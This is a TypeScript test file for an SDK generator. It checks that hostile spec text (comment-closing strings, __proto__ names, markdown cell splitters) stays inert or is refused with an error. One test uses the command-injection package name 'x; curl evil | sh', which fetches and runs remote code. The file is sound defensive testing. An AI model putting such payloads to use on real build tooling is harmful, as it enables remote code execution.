// The generator and spec:import under attack (issue 20): spec text is data wherever it lands (comments, string
// literals, markdown, package.json), and names the generator cannot emit are refused, saying which and where.
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import ts from 'typescript';
import { afterAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { buildIr, generate, type Paths } from '../generator/generate.js';
import { loadSpec } from '../generator/load.js';
import { InvalidSpecError, locatorKindOf, parseSpec } from '../generator/validate.js';
import { runImport } from '../scripts/spec/import.js';

const root = resolve(import.meta.dirname, '..');
const tiny: Paths = {
  root: join(root, 'test/fixtures'),
  spec: join(root, 'test/fixtures/tiny-spec'),
  templates: join(root, 'templates'),
};
const temp = mkdtempSync(join(tmpdir(), 'security-generator-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

let copies = 0;
/** A copy of the tiny spec with each file's YAML edited through yaml's Document API (it quotes what it must). */
function tinyWith(edits: Record<string, (doc: ReturnType<typeof parseDocument>) => void>): Paths {
  const dir = join(temp, `tiny-${++copies}`);
  cpSync(tiny.spec, dir, { recursive: true });
  for (const [file, edit] of Object.entries(edits)) {
    const doc = parseDocument(readFileSync(join(dir, file), 'utf8'));
    edit(doc);
    writeFileSync(join(dir, file), String(doc));
  }
  return { root: dir, spec: dir, templates: tiny.templates };
}

/** What a comment-closing, tag-starting, cell-splitting, quote-breaking spec string looks like. */
const HOSTILE = 'q */ INJECTED: typeof globalThis; /* @deprecated {@link x} | cell\nnext \' " ` ${x} \u2028 end';

/** The top-level statements of a TypeScript file (kind and name), its syntax errors, and what must not be in it. */
function readTs(text: string) {
  const file = ts.createSourceFile('x.ts', text, ts.ScriptTarget.Latest, true);
  const syntax = ts.transpileModule(text, { reportDiagnostics: true }).diagnostics ?? [];
  const identifiers: string[] = [];
  const tags: string[] = [];
  const visit = (node: ts.Node) => {
    if (ts.isIdentifier(node)) identifiers.push(node.text);
    for (const tag of ts.getJSDocTags(node)) tags.push(tag.tagName.text);
    ts.forEachChild(node, visit);
  };
  visit(file);
  const statements = file.statements.map(
    (s) => `${ts.SyntaxKind[s.kind]} ${(s as { name?: ts.Node }).name?.getText() ?? ''}`,
  );
  return {
    statements,
    syntax: syntax.map((d) => ts.flattenDiagnosticMessageText(d.messageText, '\n')),
    identifiers,
    tags,
  };
}

describe('spec text lands in generated files as data', () => {
  // Awaited in each test, so that a generation that fails fails the tests (and not their collection).
  const generated = Promise.all([
    generate(tiny),
    generate(
      tinyWith({
        'areas/widgets.yaml': (doc) => {
          doc.set('title', HOSTILE);
          doc.setIn(['operations', 0, 'note'], HOSTILE);
          doc.setIn(['operations', 0, 'query', 0, 'note'], HOSTILE);
          doc.setIn(['operations', 0, 'query', 2, 'default'], HOSTILE);
          doc.setIn(['operations', 1, 'returns', 'seed'], HOSTILE);
          // URL path characters are all it may hold, `*/` among them.
          doc.setIn(['operations', 2, 'path'], "/app/rest/widgets/{widgetLocator}*/INJECTED;(globalThis);'/*");
        },
        'file-tree.yaml': (doc) => doc.setIn(['prefixes', 0, 'tree'], HOSTILE),
        'models/widgets.yaml': (doc) => {
          doc.setIn(['models', 0, 'doc'], HOSTILE);
          doc.setIn(['models', 0, 'note'], HOSTILE);
          doc.setIn(['models', 0, 'properties', 0, 'doc'], HOSTILE);
          doc.setIn(['models', 0, 'properties', 6, 'note'], HOSTILE);
        },
        'locators.yaml': (doc) => {
          doc.setIn(['kinds', 'Widget', 'source'], HOSTILE);
          doc.setIn(['kinds', 'Stamp', 'source'], HOSTILE);
          doc.setIn(['kinds', 'Widget', 'singleValue', 'means'], HOSTILE);
          doc.setIn(['kinds', 'Widget', 'dimensions', 'secret', 'source'], HOSTILE);
        },
        'examples.yaml': (doc) => doc.setIn(['operations', 'widgets.set_widget_field'], HOSTILE),
        'package.yaml': (doc) => doc.set('description', HOSTILE),
      }),
    ),
  ]);

  it('emits TypeScript with no injected statement, tag or syntax error', async () => {
    const [clean, hostile] = await generated;
    expect([...hostile.keys()].sort()).toEqual([...clean.keys()].sort());
    // The TypeScript files the hostile text reached.
    const reached = [...clean.keys()].filter((p) => p.endsWith('.ts') && hostile.get(p) !== clean.get(p));
    expect(reached.sort()).toEqual([
      'src/areas/widgets.ts',
      'src/client.ts',
      'src/locators.ts',
      'src/models.ts',
      'src/operations.ts',
    ]);
    for (const path of reached) {
      expect(hostile.get(path), path).toContain('INJECTED');
      const [before, after] = [readTs(clean.get(path)!), readTs(hostile.get(path)!)];
      expect(after.syntax, path).toEqual([]);
      expect(after.statements, path).toEqual(before.statements);
      expect(after.identifiers, path).not.toContain('INJECTED');
      expect(after.tags.sort(), path).toEqual(before.tags.sort());
    }
  });

  it('keeps every markdown table row one row of the same cells', async () => {
    const [clean, hostile] = await generated;
    const rows = (text: string) =>
      text
        .split('\n')
        .filter((line) => line.startsWith('|'))
        .map((line) => line.split(/(?<!\\)\|/).length);
    for (const path of [...clean.keys()].filter((p) => p.endsWith('.md'))) {
      expect(rows(hostile.get(path)!), path).toEqual(rows(clean.get(path)!));
    }
    // The title is prose: no emphasis, link or HTML either.
    expect(hostile.get('docs/widgets.md')!.split('\n')[0]).toBe(
      '# q \\*/ INJECTED: typeof globalThis; /\\* @deprecated {@link x} \\| cell next \' " \\` ${x} end (`client.widgets`)',
    );
  });

  it('writes package.json whose description is the spec text exactly', async () => {
    const [clean, hostile] = await generated;
    const pkg = JSON.parse(hostile.get('package.json')!) as { description: string };
    expect(pkg.description).toBe(HOSTILE);
    expect(Object.keys(pkg)).toEqual(Object.keys(JSON.parse(clean.get('package.json')!) as object));
  });
});

describe('names the generator cannot emit are refused, saying which and where', () => {
  /** A copy of the tiny spec with one file's text edited (its lines stay where the fixture has them). */
  function broken(file: string, edit: (yaml: string) => string): Paths {
    const dir = join(temp, `broken-${++copies}`);
    cpSync(tiny.spec, dir, { recursive: true });
    const before = readFileSync(join(dir, file), 'utf8');
    const after = edit(before);
    expect(after, 'the edit applies').not.toBe(before);
    writeFileSync(join(dir, file), after);
    return { root: dir, spec: dir, templates: tiny.templates };
  }
  const errorsOf = (paths: Paths) => {
    try {
      buildIr(paths);
    } catch (e) {
      if (e instanceof InvalidSpecError)
        return e.errors.map((x) => `${x.file}:${x.line} ${x.operation ?? ''}: ${x.message}`);
      throw e;
    }
    return [];
  };
  const areas = (edit: (yaml: string) => string) => errorsOf(broken('areas/widgets.yaml', edit));

  it('a path parameter named __proto__ (or any key every object inherits)', () => {
    expect(
      areas((y) =>
        y
          .replace(
            'path: /app/rest/widgets/{widgetLocator}\n    pathParams: [widgetLocator]',
            'path: /app/rest/widgets/{__proto__}\n    pathParams: [__proto__]',
          )
          .replace(
            'icon{suffix}\n    pathParams: [widgetLocator, suffix]',
            'icon{toString}\n    pathParams: [widgetLocator, toString]',
          ),
      ),
    ).toEqual([
      'areas/widgets.yaml:24 widgets.delete: path parameter "__proto__" is a key every JavaScript object inherits',
      'areas/widgets.yaml:41 widgets.serve_icon: path parameter "toString" is a key every JavaScript object inherits',
    ]);
  });

  it('operation and query names whose TypeScript name an object inherits, wire names with no letter or digit', () => {
    expect(
      areas((y) =>
        y
          .replace('name: delete', 'name: constructor')
          .replace('{ name: include_all, wire: includeAll', '{ name: value_of, wire: includeAll')
          .replace('{ name: count, wire: count,', '{ name: count, wire: "!!!",'),
      ),
    ).toEqual([
      'areas/widgets.yaml:6 widgets.serve_widgets: query input value_of: its argument "valueOf" is a key every JavaScript object inherits',
      'areas/widgets.yaml:6 widgets.serve_widgets: query input count: wire name "!!!" has no letter or digit (A-Z, a-z, 0-9)',
      'areas/widgets.yaml:24 widgets.constructor: its function name "constructor" is a key every JavaScript object inherits',
    ]);
  });

  it('a path, a base or a file-tree prefix that is not a URL path, and a placeholder in a prefix', () => {
    expect(
      areas((y) =>
        y.replace('path: /app/rest/widgets/{widgetLocator}\n', 'path: "/app/rest/widgets/{widgetLocator} `x` | y"\n'),
      ),
    ).toEqual([
      "areas/widgets.yaml:24 widgets.delete: path must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
    ]);
    expect(areas((y) => y.replace('base: /app/rest/widgets', 'base: "/app/rest/widgets\\n"'))).toContain(
      "areas/widgets.yaml:4 : base must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
    );
    expect(
      errorsOf(broken('file-tree.yaml', (y) => y.replace('{widgetLocator}/files', '{constructor}/files{!}'))),
    ).toEqual([
      "file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: prefix must hold URL path characters only (letters, digits, -._~!$&'()*+,;=:@%/) and {placeholder}s",
      'file-tree.yaml:8 prefix /app/rest/widgets/{constructor}/files{!}: path parameter "constructor" is a key every JavaScript object inherits',
    ]);
  });

  it('an area name that is a reserved word (it names a namespace import)', () => {
    expect(areas((y) => y.replace('area: widgets', 'area: delete'))).toContain(
      'areas/widgets.yaml:2 : area "delete" is a reserved word of JavaScript',
    );
  });

  it('model properties, wire names and enum values that close a comment, break a line or have no letter', () => {
    const errors = errorsOf(
      broken('models/widgets.yaml', (y) =>
        y
          .replace('{ name: id, type: int64', '{ name: constructor, type: int64')
          .replace('enum: [new, used]', 'enum: [new, "a */ b"]')
          .replace('{ name: vcs-root-id,', '{ name: "two\\nlines",')
          .replace('wire: widgets', 'wire: "---"'),
      ),
    );
    expect(errors).toEqual([
      'models/widgets.yaml:8 model Widget: property constructor: name "constructor" is a key every JavaScript object inherits',
      'models/widgets.yaml:9 model Widget: property state: enum value "a */ b" would close a comment (it holds */)',
      'models/widgets.yaml:11 model Widget: property two\nlines: name "two\\nlines" holds a line break or a control character',
      'models/widgets.yaml:16 model Widgets: wire name "---" has no letter or digit (A-Z, a-z, 0-9)',
    ]);
  });

  it('locator dimensions, kinds and enum values, and a __proto__ key that zod would drop unseen', () => {
    const locators = (edit: (yaml: string) => string) => errorsOf(broken('locators.yaml', edit));
    expect(
      locators((y) =>
        y
          .replace('      name: { type: string }\n', '      constructor: { type: string }\n')
          .replace('[new, used, any]', '[new, used, "a */"]')
          .replace(/Shelf/g, 'ValueOf'),
      ),
    ).toEqual([
      'locators.yaml:3 : enum WidgetState: value "a */" would close a comment (it holds */)',
      'locators.yaml:5 : kind ValueOf: its name in `locator` "valueOf" is a key every JavaScript object inherits',
      'locators.yaml:20 : kind Widget: dimension "constructor" is a key every JavaScript object inherits',
    ]);
    expect(
      locators((y) =>
        y.replace(
          '      name: { type: string }\n',
          '      __proto__: { type: string }\n      name: { type: string }\n',
        ),
      ),
    ).toEqual(['locators.yaml:20 : kinds.Widget.dimensions.__proto__: the key __proto__ cannot name anything']);
  });

  it('reads no spec name as a key an object inherits', () => {
    const { spec } = parseSpec(loadSpec(tiny.spec, tiny.root));
    const inputs = spec!.locators.value.inputs;
    for (const name of ['constructor', 'toString', '__proto__']) {
      expect(locatorKindOf(inputs, 'widgets', 'serve_widgets', name, true, false), name).toBeUndefined();
    }
  });

  it('a package name that is not an npm package name (it goes into shell commands and imports)', async () => {
    const e = await generate(
      broken('package.yaml', (y) => y.replace('name: tiny-sdk', 'name: x; curl evil | sh')),
    ).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(InvalidSpecError);
    expect((e as InvalidSpecError).message).toContain('package.yaml:1: name must be an npm package name');
  });
});

describe('spec:import refuses hostile names with a message, and writes nothing', () => {
  /** A fresh copy of spec/ (as `<dir>/spec`, so its files are named as in the repository). */
  const copySpec = () => {
    const dir = join(temp, `spec-${++copies}`, 'spec');
    cpSync(join(root, 'spec'), dir, { recursive: true });
    return dir;
  };
  const snapshot = (dir: string) => {
    const files = new Map<string, string>();
    const walk = (d: string) => {
      for (const e of readdirSync(d, { withFileTypes: true })) {
        if (e.isDirectory()) walk(join(d, e.name));
        else files.set(relative(dir, join(d, e.name)), readFileSync(join(d, e.name), 'utf8'));
      }
    };
    walk(dir);
    return files;
  };
  /** Imports a definition (as JSON text) into a fresh copy; the error it throws, and whether the copy changed. */
  const importing = async (definition: object | string) => {
    const file = join(temp, `definition-${++copies}.json`);
    writeFileSync(file, typeof definition === 'string' ? definition : JSON.stringify(definition));
    const dir = copySpec();
    const before = snapshot(dir);
    const error = await runImport(file, dir).then(
      () => null,
      (e: unknown) => e,
    );
    return {
      error: error as Error | null,
      changed: JSON.stringify([...snapshot(dir)]) !== JSON.stringify([...before]),
      name: file.replace(/.*\//, ''),
    };
  };
  const one = (path: string, operation: object, definitions: object = {}) => ({
    swagger: '2.0',
    paths: { [path]: { get: operation } },
    definitions,
  });

  it.each([
    [
      'an operationId that closes a comment',
      'q */ INJECTED: typeof globalThis; /*',
      'operationId "q */ INJECTED: typeof globalThis; /*" would close a comment (it holds */)',
    ],
    ['an operationId with no letter or digit', '!!!', 'operationId "!!!" has no letter or digit (A-Z, a-z, 0-9)'],
    [
      'an operationId that is not a name',
      'get zaps()',
      'operationId "get zaps()" is not a name (a letter, then letters, digits and _)',
    ],
  ])('%s', async (_, operationId, message) => {
    const { error, changed, name } = await importing(
      one('/app/rest/zaps', { operationId, responses: { default: {} } }),
    );
    expect(error).not.toBeInstanceOf(TypeError);
    expect(error?.message).toBe(
      `${name}: the spec cannot take these names; nothing was imported:\n  GET /app/rest/zaps: ${message}`,
    );
    expect(changed).toBe(false);
  });

  it('parameters and definitions: __proto__, no letter or digit', async () => {
    const { error, changed, name } = await importing(
      one(
        '/app/rest/zaps/{__proto__}',
        {
          operationId: 'getZap',
          parameters: [
            { name: '__proto__', in: 'path', required: true, type: 'string' },
            { name: '???', in: 'query', type: 'string' },
          ],
          responses: { 200: { schema: { $ref: '#/definitions/!!!' } } },
        },
        { '!!!': { properties: { '--': { type: 'string' }, constructor: { type: 'string' } } } },
      ),
    );
    expect(error).not.toBeInstanceOf(TypeError);
    expect(error?.message.split('\n')).toEqual([
      `${name}: the spec cannot take these names; nothing was imported:`,
      '  GET /app/rest/zaps/{__proto__}: path parameter "__proto__" is a key every JavaScript object inherits',
      '  GET /app/rest/zaps/{__proto__}: query parameter "???" has no letter or digit (A-Z, a-z, 0-9)',
      '  definitions: definition "!!!" has no letter or digit (A-Z, a-z, 0-9)',
      '  definition "!!!": property "--" has no letter or digit (A-Z, a-z, 0-9)',
      '  definition "!!!": property "constructor" is a key every JavaScript object inherits',
    ]);
    expect(changed).toBe(false);
  });

  it('a definition it cannot read: the place and what is wrong, never a TypeError', async () => {
    const noResponses = await importing(one('/app/rest/zaps', { operationId: 'getZaps' }));
    expect(noResponses.error).not.toBeInstanceOf(TypeError);
    expect(noResponses.error?.message).toMatch(
      /is not a swagger 2\.0 definition the import can read:\n {2}paths\["\/app\/rest\/zaps"\]\.get\.responses: /,
    );
    const proto = await importing(
      '{"swagger":"2.0","paths":{},"definitions":{"Zap":{"properties":{"__proto__":{"type":"string"}}}}}',
    );
    expect(proto.error?.message).toBe(
      `${join(temp, proto.name)}: definitions.Zap.properties.__proto__: the key __proto__ cannot name anything`,
    );
    expect([noResponses.changed, proto.changed]).toEqual([false, false]);
  });
});
